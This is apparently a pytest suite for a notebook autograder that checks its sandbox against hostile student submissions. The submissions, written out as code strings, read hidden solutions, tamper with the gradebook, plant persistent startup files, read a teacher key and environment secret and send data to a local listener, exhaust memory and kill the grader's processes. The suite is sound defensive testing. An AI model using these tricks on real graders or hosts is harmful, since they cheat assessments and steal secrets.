"""python -m emu grade against hostile and careless students (issue 28).

One class, graded once (a module fixture), on a small chapter made here (three exercises,
hidden checks, reference answers): every attack and fault of the issue is a student of the
class, and each test below reads what came of it (the CSV, the feedback files, the host).
An attack that worked would score; a fault that escaped would leave no CSV. The grader runs
as it would for a teacher (``main(["grade", ...])``), here as root: the sandbox drops to an
unprivileged user. HOME and IPYTHONDIR point into the test's folder, so that even the grader
of before (which ran the students' code as the teacher) wrote nothing outside it.
"""
import csv
import hashlib
import json
import os
import socket
import threading
import time
from pathlib import Path

import pytest

from emu.course import sandbox
from emu.__main__ import main

# the grader needs bubblewrap: without it these skip, except in CI (.ci/run installs it)
pytestmark = pytest.mark.skipif(sandbox.bwrap() is None and not os.environ.get("CI"),
                                reason="bubblewrap (bwrap) is not installed")

NAME = "mini"
SECRET_ENV = "EMU_TEST_TEACHER_SECRET"
MARKER = "emu-stray-marker-7f3a"
SETUP = "import os\nBASE = 21"
ANSWERS = {"mini-ex1": "double = BASE * 2", "mini-ex2": "words = ('a', 'b')",
           "mini-ex3": "primes = {2, 3, 5}"}
CHECKS = {"mini-ex1": ("assert isinstance(double, int)", "assert double == 42"),
          "mini-ex2": ("assert len(words) == 2", "assert words == ('a', 'b')"),
          "mini-ex3": ("assert isinstance(primes, set)", "assert primes == {2, 3, 5}")}
POINTS = {"mini-ex1": 2, "mini-ex2": 1, "mini-ex3": 2}
FULL = {"mini-ex1": 2.0, "mini-ex2": 1.0, "mini-ex3": 2.0}


def chapter():
    """A chapter notebook in the book's format: each exercise an answer and a check cell."""
    def cell(source, nbgrader=None):
        meta = {"nbgrader": dict(nbgrader, schema_version=3)} if nbgrader else {}
        return {"cell_type": "code", "metadata": meta, "source": source,
                "execution_count": None, "outputs": []}
    cells = [cell(SETUP)]
    for grade_id, answer in ANSWERS.items():
        public, hidden = CHECKS[grade_id]
        cells.append({"cell_type": "markdown", "metadata": {}, "source": f"Exercise {grade_id}"})
        cells.append(cell(f"### BEGIN SOLUTION\n{answer}\n### END SOLUTION",
                          {"grade": False, "solution": True, "locked": False,
                           "grade_id": f"{grade_id}-answer"}))
        cells.append(cell(f"{public}\n### BEGIN HIDDEN TESTS\n{hidden}\n### END HIDDEN TESTS",
                          {"grade": True, "solution": False, "locked": True,
                           "points": POINTS[grade_id], "grade_id": grade_id}))
    return {"cells": cells, "nbformat": 4, "nbformat_minor": 5,
            "metadata": {"kernelspec": {"name": "python3", "display_name": "Python 3",
                                        "language": "python"}}}


def released(course):
    return json.loads((course / "release" / NAME / f"{NAME}.ipynb").read_text())


def submit(course, folder, student, answers):
    """The released notebook with answer cells replaced (by grade id without -answer);
    the others keep the stub that raises NotImplementedError."""
    nb = released(course)
    for cell in nb["cells"]:
        grade_id = cell["metadata"].get("nbgrader", {}).get("grade_id", "")
        if grade_id.removesuffix("-answer") in answers and grade_id.endswith("-answer"):
            cell["source"] = answers[grade_id.removesuffix("-answer")]
    (folder / f"{student}.ipynb").write_text(json.dumps(nb))


# every export forged (print replaced): JSON, but no plain value (a list in a set)
FORGER = """
import builtins
real = builtins.print
def forged(*args, **kwargs):
    text = str(args[0]) if args else ''
    if text.startswith(chr(0)):
        return real(chr(0) + text.split(chr(0))[1] + chr(0) + '{"double": {"$set": [[1]]}}')
    return real(*args, **kwargs)
builtins.print = forged
double = 42
"""


def host_tmp_file(tmp):
    """A file in the host's /tmp that one run's filler tries to write."""
    return Path("/tmp") / f"emu-filler-{hashlib.sha1(str(tmp).encode()).hexdigest()[:10]}"


def attacks(course, subs, tmp, port):
    """{student: {exercise: code}}: every attack and fault of issue 28."""
    source = course / "source" / NAME / f"{NAME}.ipynb"
    steal_source = f"""
import json, glob, re
found = glob.glob('../../../source/*/*.ipynb') + [{str(source)!r}]
for path in found:
    try:
        nb = json.load(open(path))
    except OSError:
        continue
    for c in nb['cells']:
        text = ''.join(c['source'])
        if 'BEGIN SOLUTION' in text:
            exec(text, globals())
    print('READ', path)
try:
    import sqlite3
    db = sqlite3.connect({str(course / 'gradebook.db')!r})
    for (text,) in db.execute('select source from source_cell'):
        if 'BEGIN SOLUTION' in text:
            exec(text, globals())
    print('READ gradebook')
except Exception as error:
    print('no gradebook', type(error).__name__)
"""
    copy_classmate = f"""
import json, glob
for path in glob.glob('{course}/submitted/*/*/*.ipynb') + glob.glob('{subs}/zz_honest.ipynb'):
    if '/copier' in path:
        continue
    try:
        nb = json.load(open(path))
    except OSError:
        continue
    for c in nb['cells']:
        if c['metadata'].get('nbgrader', {{}}).get('solution'):
            exec(''.join(c['source']), globals())
    print('COPIED', path)
"""
    tamper = f"""
for path in ({str(course / 'gradebook.db')!r}, {str(tmp / 'scores.csv')!r}):
    try:
        open(path, 'w').write('tampered')
        print('TAMPERED', path)
    except OSError as error:
        print('cannot tamper', type(error).__name__)
"""
    rewrite_later = f"""
import subprocess, sys
code = '''
import time, sys
time.sleep(4)
open({str(tmp / 'scores.csv')!r}, 'w').write('student,total\\\\nrewriter,5\\\\n')
open({str(tmp / 'stray-was-here')!r}, 'w').write('alive')
'''
subprocess.Popen([sys.executable, '-c', code, {MARKER!r}], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
print('DETACHED')
"""
    transformer = """
def neuter(lines):
    return ['pass\\n'] if any('assert' in line for line in lines) else lines
get_ipython().input_transformers_cleanup.append(neuter)
"""
    startup = """
import os
folder = os.path.expanduser('~/.ipython/profile_default/startup')
os.makedirs(folder, exist_ok=True)
open(os.path.join(folder, '00-answers.py'), 'w').write(
    'double = 42\\nwords = (\\"a\\", \\"b\\")\\nprimes = {2, 3, 5}\\n')
print('STARTUP written')
"""
    snoop = f"""
import os, socket
print('UID', os.getuid())
for path in ('/etc/hostname', {str(tmp / 'teacher' / 'key')!r}):
    try:
        print('FILE', open(path).read())
    except OSError as error:
        print('FILE none', type(error).__name__)
print('ENV', os.environ.get({SECRET_ENV!r}, 'none'), len(os.environ))
try:
    s = socket.create_connection(('127.0.0.1', {port}), timeout=3)
    s.sendall(b'stolen')
    s.close()
    print('NET sent')
except OSError as error:
    print('NET refused', type(error).__name__)
"""
    return {
        "reader": {"mini-ex1": steal_source},
        "copier": {"mini-ex1": copy_classmate},
        "tamper": {"mini-ex1": tamper},
        "rewriter": {"mini-ex1": rewrite_later},
        "transformer": {"mini-ex1": transformer},
        "persist_a": {"mini-ex1": startup},
        "persist_b": {},
        "snoop": {"mini-ex1": snoop},
        # 3.5 GB resident, 100 MB at a time, after two answers
        "hog": {"mini-ex1": ANSWERS["mini-ex1"], "mini-ex2": ANSWERS["mini-ex2"],
                "mini-ex3": "hoard = [b'x' * (100 << 20) for _ in range(35)]\n"
                            "primes = {2, 3, 5}"},
        "shouter": {"mini-ex1": "print('x' * 30_000_000)\ndouble = 42",
                    "mini-ex2": ANSWERS["mini-ex2"], "mini-ex3": ANSWERS["mini-ex3"]},
        "filler": {"mini-ex1": f"""
block = b'y' * (1 << 20)
for path in ({str(host_tmp_file(tmp))!r}, {str(tmp / 'filler-was-here')!r}):
    try:
        with open(path, 'wb') as f:
            for _ in range(100):
                f.write(block)
    except OSError as error:
        print('FILL stopped', type(error).__name__)
double = 42""", "mini-ex2": ANSWERS["mini-ex2"], "mini-ex3": ANSWERS["mini-ex3"]},
        "sigint": {"mini-ex1": "import signal, time\nsignal.signal(signal.SIGINT, "
                               "signal.SIG_IGN)\nwhile True:\n    time.sleep(0.05)",
                   "mini-ex2": ANSWERS["mini-ex2"], "mini-ex3": ANSWERS["mini-ex3"]},
        # ex1 runs well once and kills its kernel when run again, after ex2 killed one
        "dies_twice": {"mini-ex1": "import os, signal\nif os.path.exists(os.path.expanduser('~/ran')):\n"
                                   "    os.kill(os.getpid(), signal.SIGKILL)\n"
                                   "open(os.path.expanduser('~/ran'), 'w').close()\ndouble = 42",
                       "mini-ex2": "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)",
                       "mini-ex3": ANSWERS["mini-ex3"]},
        # kills the grader's driver in the sandbox: nothing of the run comes back
        "driver_killer": {"mini-ex1": "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)",
                          "mini-ex2": ANSWERS["mini-ex2"]},
        "forger": {"mini-ex1": FORGER, "mini-ex3": ANSWERS["mini-ex3"]},
        "zz_honest": dict(ANSWERS),
    }


def bad_files(course, subs):
    """Files that must be refused, each with its own row, the class graded still."""
    (subs / "empty.ipynb").write_text("")
    (subs / "garbage.ipynb").write_text("{not json")
    (subs / "...ipynb").write_text(json.dumps(released(course)))
    other = released(course)
    for cell in other["cells"]:
        meta = cell["metadata"].get("nbgrader")
        if meta:
            meta["grade_id"] = "lab9-" + meta["grade_id"]
    (subs / "other_chapter.ipynb").write_text(json.dumps(other))
    pasted = released(course)
    answer = next(c for c in pasted["cells"] if c["metadata"].get("nbgrader", {}).get(
        "solution"))
    pasted["cells"].append(json.loads(json.dumps(answer)))
    (subs / "pasted.ipynb").write_text(json.dumps(pasted))


class Listener:
    """A TCP listener on the host's 127.0.0.1: what a student sends to it is stolen."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen()
        self.sock.settimeout(0.5)
        self.port, self.received, self.done = self.sock.getsockname()[1], [], False
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while not self.done:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(2)
                try:
                    self.received.append(conn.recv(100))
                except OSError:
                    self.received.append(b"connected")

    def close(self):
        self.done = True
        self.thread.join()
        self.sock.close()


def make_course(tmp):
    (tmp / "notebooks").mkdir()
    (tmp / "notebooks" / "mini.ipynb").write_text(json.dumps(chapter()))
    assert main(["handout", str(tmp / "notebooks" / "mini.ipynb"), "-o",
                 str(tmp / "course")]) == 0
    return tmp / "course"


@pytest.fixture(scope="module")
def course(tmp_path_factory):
    return make_course(tmp_path_factory.mktemp("mini"))


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("hostile")
    home = tmp / "home"
    (home / ".ipython").mkdir(parents=True)
    (tmp / "teacher").mkdir()
    (tmp / "teacher" / "key").write_text("TEACHER-KEY-1234")
    subs = tmp / "submitted"
    subs.mkdir()
    listener = Listener()
    with pytest.MonkeyPatch.context() as env:
        env.setenv("HOME", str(home))
        env.setenv("IPYTHONDIR", str(home / ".ipython"))
        env.setenv(SECRET_ENV, "ENV-SECRET-5678")
        course = make_course(tmp)
        for student, answers in attacks(course, subs, tmp, listener.port).items():
            submit(course, subs, student, answers)
        bad_files(course, subs)
        gradebook = hashlib.sha256((course / "gradebook.db").read_bytes()).hexdigest()
        started = time.monotonic()
        code = main(["grade", str(course), str(subs), "-o", str(tmp / "scores.csv"),
                     "--timeout", "5", "--memory", "1024", "--student-timeout", "120"])
        seconds = time.monotonic() - started
    scores = (tmp / "scores.csv").read_bytes() if (tmp / "scores.csv").exists() else b""
    time.sleep(6)                           # what a detached child would do by now
    listener.close()
    return {"code": code, "tmp": tmp, "course": course, "seconds": seconds,
            "scores_at_return": scores, "gradebook": gradebook, "received": listener.received}


def rows(graded):
    with open(graded["tmp"] / "scores.csv", newline="") as f:
        return {row["student"]: row for row in csv.DictReader(f)}


def scores(graded, student):
    row = rows(graded)[student]
    return {e: float(row[e]) for e in FULL}


def feedback(graded, student):
    return (graded["course"] / "feedback" / NAME / f"{student}.html").read_text()


def test_the_class_is_graded_and_an_honest_student_scores_full(graded):
    assert graded["code"] == 0
    assert scores(graded, "zz_honest") == FULL
    assert rows(graded)["zz_honest"]["status"] == "graded"


@pytest.mark.parametrize("student", ["reader", "copier", "transformer", "persist_b"])
def test_reading_answers_copying_or_neutering_checks_scores_nothing(graded, student):
    """Reading the source and gradebook, running a classmate's answers, an input
    transformer that turns checks into pass, a startup file left by the student before."""
    assert scores(graded, student) == dict.fromkeys(FULL, 0.0)


def test_the_student_sees_neither_the_course_nor_classmates(graded):
    assert "READ" not in feedback(graded, "reader").replace("READ gradebook", "")
    assert "READ gradebook" not in feedback(graded, "reader")
    assert "COPIED" not in feedback(graded, "copier")


def test_tampering_with_the_gradebook_and_csv_changes_nothing(graded):
    assert "TAMPERED" not in feedback(graded, "tamper")
    digest = hashlib.sha256((graded["course"] / "gradebook.db").read_bytes()).hexdigest()
    assert digest == graded["gradebook"]
    assert scores(graded, "tamper") == dict.fromkeys(FULL, 0.0)


def test_no_process_outlives_its_student_and_the_csv_stays_as_written(graded):
    assert "DETACHED" in feedback(graded, "rewriter")          # the child was started
    assert (graded["tmp"] / "scores.csv").read_bytes() == graded["scores_at_return"]
    assert not (graded["tmp"] / "stray-was-here").exists()
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            cmdline = Path(f"/proc/{pid}/cmdline").read_bytes()
            assert not (MARKER.encode() in cmdline and str(graded["tmp"]).encode() in cmdline)
        except OSError:
            continue


def test_startup_files_do_not_persist(graded):
    assert "STARTUP written" in feedback(graded, "persist_a")  # into the sandbox's home
    assert not list((graded["tmp"] / "home").rglob("00-answers.py"))
    assert not list(Path.home().glob(".ipython/profile_default/startup/00-answers.py"))


def test_the_student_runs_unprivileged_without_network_secrets_or_host_files(graded):
    page = feedback(graded, "snoop")
    assert "UID 65534" in page
    assert "TEACHER-KEY" not in page and "ENV-SECRET" not in page
    assert "ENV none" in page
    assert "FILE none" in page and page.count("FILE none") == 2
    assert "NET refused" in page
    assert graded["received"] == []


def test_memory_output_and_files_are_bounded_and_cost_their_exercise_only(graded):
    # killed at 1024 MB resident (the sandbox's processes together): its first two answers
    # count (bytearray(3_500_000_000) is resident too: CPython zeroes it)
    assert scores(graded, "hog") == dict(FULL, **{"mini-ex3": 0.0})
    assert rows(graded)["hog"]["status"] == "killed: more than 1024 MB of memory"
    assert scores(graded, "shouter") == FULL
    assert len(feedback(graded, "shouter")) < 100_000             # 30 MB printed, cut
    biggest = max(p.stat().st_size for p in graded["course"].rglob("*") if p.is_file())
    assert biggest < 10 << 20
    assert scores(graded, "filler") == FULL
    assert not host_tmp_file(graded["tmp"]).exists()
    assert not (graded["tmp"] / "filler-was-here").exists()


def test_a_student_who_kills_the_driver_or_forges_exports_costs_only_themselves(graded):
    row = rows(graded)["driver_killer"]
    assert row["status"] == "crashed: the notebook's run left no result"
    assert float(row["total"]) == 0
    assert scores(graded, "forger") == dict.fromkeys(FULL, 0.0)
    assert rows(graded)["forger"]["status"] == "graded"      # the checks ran, on nothing


def test_a_cell_ignoring_sigint_and_a_kernel_dying_twice_cost_their_exercises(graded):
    assert scores(graded, "sigint") == dict(FULL, **{"mini-ex1": 0.0})
    assert "timed out" in feedback(graded, "sigint")
    # ex1 was exported on its first run, then killed the kernel when run again
    assert scores(graded, "dies_twice") == dict(FULL, **{"mini-ex2": 0.0})
    assert rows(graded)["dies_twice"]["status"] == "graded"


@pytest.mark.parametrize("student, why", [
    ("empty", "not a readable notebook"), ("garbage", "not a readable notebook"),
    ("..", "a student's name"), ("other_chapter", "not a notebook of mini"),
    ("pasted", "appears more than once")])
def test_each_bad_file_gets_a_row_saying_why(graded, student, why):
    row = rows(graded)[student]
    assert row["status"].startswith("refused: ") and why in row["status"]
    assert float(row["total"]) == 0


def test_feedback_shows_scores_and_own_output_but_no_check_or_reference(graded):
    page = feedback(graded, "zz_honest")
    assert "5 of 5" in page
    page = feedback(graded, "hog")
    assert "3 of 5" in page and "mini-ex3" in page
    for student in ("zz_honest", "hog", "reader"):
        page = feedback(graded, student)
        assert "HIDDEN" not in page and "double == 42" not in page
        assert "BEGIN SOLUTION" not in page and "BASE * 2" not in page


def test_without_a_sandbox_grading_is_refused_unless_the_teacher_trusts_the_code(
        course, tmp_path, monkeypatch, capsys):
    monkeypatch.setattr(sandbox, "bwrap", lambda: None)
    monkeypatch.setattr(sandbox, "_PROBE", {})
    subs = tmp_path / "submitted"
    subs.mkdir()
    submit(course, subs, "honest", ANSWERS)
    target = tmp_path / "scores.csv"
    assert main(["grade", str(course), str(subs), "-o", str(target)]) == 1
    err = capsys.readouterr().err
    assert "no sandbox" in err and "bubblewrap" in err and "--trusted" in err
    assert not target.exists()
    assert main(["grade", str(course), str(subs), "-o", str(target), "--trusted"]) == 0
    assert rows_of(target)["honest"]["total"] == "5"


def rows_of(target):
    with open(target, newline="") as f:
        return {row["student"]: row for row in csv.DictReader(f)}


def test_a_rerun_grades_the_folder_as_it_is_now(course, tmp_path):
    """An earlier run's refused file, removed since, is gone from the next CSV."""
    subs = tmp_path / "submitted"
    subs.mkdir()
    submit(course, subs, "honest", ANSWERS)
    (subs / "broken.ipynb").write_text("{not json")
    target = tmp_path / "scores.csv"
    assert main(["grade", str(course), str(subs), "-o", str(target)]) == 0
    assert rows_of(target)["broken"]["status"].startswith("refused")
    (subs / "broken.ipynb").unlink()
    assert main(["grade", str(course), str(subs), "-o", str(target)]) == 0
    assert {s: r["status"] for s, r in rows_of(target).items()} == {"honest": "graded"}


def test_grading_ends_within_each_students_limit(course, tmp_path):
    """Cells each within --timeout, together past --student-timeout: the sandbox is killed
    at the student's limit, what was exported before is graded, the row says timed out."""
    subs = tmp_path / "submitted"
    subs.mkdir()
    slow = "import time\ntime.sleep(50)\n"
    submit(course, subs, "slow", {"mini-ex1": ANSWERS["mini-ex1"],
                                  "mini-ex2": slow + ANSWERS["mini-ex2"],
                                  "mini-ex3": ANSWERS["mini-ex3"]})
    target = tmp_path / "scores.csv"
    started = time.monotonic()
    assert main(["grade", str(course), str(subs), "-o", str(target), "--timeout", "60",
                 "--student-timeout", "25"]) == 0
    seconds = time.monotonic() - started
    row = rows_of(target)["slow"]
    assert row["status"] == "timed out"
    assert (float(row["mini-ex1"]), float(row["mini-ex3"])) == (2, 0)
    assert 25 <= seconds < 2 * 25
